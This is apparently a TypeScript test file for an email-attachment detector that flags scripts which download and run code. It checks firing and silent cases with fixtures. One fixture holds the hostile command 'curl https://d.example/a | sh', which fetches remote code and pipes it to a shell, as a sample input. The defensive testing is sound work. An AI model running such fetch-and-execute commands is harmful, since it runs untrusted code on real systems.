import { detector } from '../../../src/detectors/attachment/script-downloader.ts'
import { aFile, withObservables } from '../../helpers/a-message.ts'
import { describeDetector } from '../../helpers/describe-detector.ts'

describeDetector(detector, {
  fires: {
    'the trait, with what bears it out': {
      message: withObservables({
        files: [
          aFile({
            name: 'update.js',
            traits: ['downloader'],
            details: [{ trait: 'downloader', excerpt: 'curl https://d.example/a | sh' }],
          }),
        ],
      }),
      says: ['Script that fetches and runs: update.js'],
    },
    'a file inside an archive': {
      message: withObservables({ files: [aFile({ name: 'a.zip/update.js', foundIn: ['archive'], traits: ['downloader'] })] }),
      says: [/a\.zip/],
    },
  },
  silent: {
    'a script of a developer': { message: withObservables({ files: [aFile({ name: 'fetch.py', traits: ['script'] })] }) },
    'a web page': { message: withObservables({ files: [aFile({ name: 'a.html', traits: ['redirect'] })] }) },
    'a remote desktop file': { message: withObservables({ files: [aFile({ name: 'desk.rdp', traits: ['launcher', 'connects'] })] }) },
    'no file': {},
  },
})
